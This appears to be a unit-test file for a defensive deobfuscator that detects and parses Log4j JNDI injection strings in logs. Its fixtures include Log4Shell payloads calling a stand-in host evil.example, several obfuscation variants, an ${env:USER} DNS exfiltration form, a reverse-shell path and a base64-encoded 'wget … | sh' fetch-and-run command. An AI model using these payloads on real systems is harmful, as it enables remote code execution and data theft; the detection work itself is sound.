"""Unit tests of the Log4j lookup deobfuscator (python3 -m unittest inside the image)."""
import unittest

from lookups import deobfuscate, jndi_command, parse_jndi

LDAP = "${jndi:ldap://evil.example:1389/a}"


class Deobfuscate(unittest.TestCase):
    def exploits(self, text):
        return deobfuscate(text)[1]

    def test_plain(self):
        self.assertEqual(self.exploits("ua " + LDAP + " tail"), [LDAP])

    def test_lower_upper(self):
        self.assertEqual(self.exploits("${jndi:${lower:L}${lower:D}a${upper:p}://e/x}"),
                         ["${jndi:ldaP://e/x}"])
        self.assertEqual(self.exploits("${${lower:J}${upper:n}di:ldap://e/x}"),
                         ["${jndi:ldap://e/x}"])

    def test_default_values(self):
        self.assertEqual(self.exploits("${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://e/x}"),
                         ["${jndi:ldap://e/x}"])
        self.assertEqual(self.exploits("${${env:NaN:-j}ndi${env:NaN:-:}${env:X:-l}dap://e/x}"),
                         ["${jndi:ldap://e/x}"])
        self.assertEqual(self.exploits("${${sys:a:-${::-j}}ndi:rmi://e/x}"), ["${jndi:rmi://e/x}"])

    def test_date_literal(self):
        self.assertEqual(self.exploits("${${date:'j'}${date:'n'}di:ldap://e/x}"),
                         ["${jndi:ldap://e/x}"])
        self.assertEqual(deobfuscate("${date:'it''s'}")[0], "it's")

    def test_prefix_case_insensitive(self):
        self.assertEqual(self.exploits("${JnDi:ldap://e/x}"), ["${jndi:ldap://e/x}"])

    def test_host_lookup_without_default_stays(self):
        self.assertEqual(self.exploits("${jndi:dns://${env:USER}.e/x}"),
                         ["${jndi:dns://${env:USER}.e/x}"])
        self.assertEqual(deobfuscate("a ${java:version} b")[0], "a ${java:version} b")

    def test_not_exploits(self):
        self.assertEqual(self.exploits("$${jndi:ldap://e/x}"), [])
        self.assertEqual(self.exploits("${jndi:ldap://unclosed"), [])
        self.assertEqual(self.exploits("no lookups here"), [])
        self.assertEqual(self.exploits("${lower:JNDI}:ldap://e/x"), [])
        self.assertEqual(deobfuscate(None), (None, []))

    def test_unclosed_outer_keeps_inner(self):
        self.assertEqual(self.exploits("${x ${jndi:ldap://e/x}"), ["${jndi:ldap://e/x}"])

    def test_several(self):
        self.assertEqual(self.exploits("${jndi:ldap://a/1} ${jndi:rmi://b/2}"),
                         ["${jndi:ldap://a/1}", "${jndi:rmi://b/2}"])

    def test_deep_and_hostile(self):
        deep = "${" * 500 + "jndi:ldap://deep/x" + "}" * 500
        self.assertEqual(self.exploits(deep), ["${jndi:ldap://deep/x}"])
        self.assertEqual(self.exploits("${" * 100000), [])
        self.assertEqual(self.exploits("${a " * 50000), [])
        too_deep = "${" * 5000 + "jndi:ldap://deep/x}" + "}" * 4999
        self.assertEqual(self.exploits(too_deep), ["${jndi:ldap://deep/x}"])


class ParseJndi(unittest.TestCase):
    def test_parts(self):
        self.assertEqual(parse_jndi(LDAP), ("ldap", "evil.example", 1389, "/a"))
        self.assertEqual(parse_jndi("${jndi:RMI://Evil.Example/obj}"),
                         ("rmi", "evil.example", None, "/obj"))
        self.assertEqual(parse_jndi("${jndi:ldaps://[2001:db8::1]:636/o}"),
                         ("ldaps", "[2001:db8::1]", 636, "/o"))
        self.assertEqual(parse_jndi("${jndi:dns://${env:USER}.e.example}"),
                         ("dns", "${env:user}.e.example", None, None))

    def test_odd(self):
        self.assertEqual(parse_jndi("${jndi:ldap://h:99999/p}"), ("ldap", "h", None, "/p"))
        self.assertEqual(parse_jndi("${jndi:${env:X}}"), (None, None, None, None))
        self.assertEqual(parse_jndi("${jndi:iiop:x}"), ("iiop", None, None, None))


class Command(unittest.TestCase):
    def test_base64_command(self):
        self.assertEqual(jndi_command("/Basic/Command/Base64/d2dldCAtcSBodHRwOi8vZS94fHNo"),
                         "wget -q http://e/x|sh")
        self.assertEqual(jndi_command("/basic/command/base64/aWQ"), "id")     # no padding
        self.assertEqual(jndi_command("/Basic/Command/Base64/aWQ%3D"), "id")  # URL-encoded
        self.assertEqual(jndi_command("/Basic/ReverseShell/1.2.3.4/9999"), None)
        self.assertEqual(jndi_command("/Basic/Command/Base64/AAEC"), None)   # not text
        self.assertEqual(jndi_command(None), None)


if __name__ == "__main__":
    unittest.main()
